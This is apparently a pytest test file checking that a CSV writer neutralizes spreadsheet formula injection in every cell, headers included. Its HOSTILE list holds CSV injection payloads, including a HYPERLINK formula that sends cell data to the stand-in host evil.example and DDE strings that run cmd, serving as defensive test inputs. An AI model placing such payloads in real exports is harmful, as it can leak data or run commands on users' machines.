"""CSV for spreadsheets: every cell a spreadsheet could run as a formula is neutralized by the
writer itself, headers included, whatever the caller passes."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from competitions.core.spreadsheet import CsvPieces, cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
]


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("value", HOSTILE)
def test_every_cell_of_every_row_is_neutralized_headers_included(value):
    out = CsvPieces()
    out.writerow(["entry_id", value, f"{value} [key]"])
    out.writerow([1, value, "plain"])
    header, line = read(out.take())
    for written in (header[1], header[2], line[1]):
        assert written.startswith("'"), written
        assert written[1:].startswith(value.split("[")[0])  # nothing else is changed


def test_plain_text_and_numbers_are_written_as_they_are():
    out = CsvPieces()
    out.writerow(["Plain", "a=b", 3, -1.5, Decimal("-0.25"), None, ""])
    assert read(out.take()) == [["Plain", "a=b", "3", "-1.5", "-0.25", "", ""]]
    # A number is not a formula; text that starts like one is, even a negative number's text.
    assert cell(-1) == "-1" and cell("-1") == "'-1"
    assert cell("'=already") == "'=already"  # neutralizing twice changes nothing


def test_pieces_are_taken_in_order_with_one_byte_order_mark():
    out = CsvPieces()
    out.writerow(["a"])
    first = out.take()
    out.writerow(["=b"])
    assert first == "\ufeffa\r\n" and out.take() == "'=b\r\n"
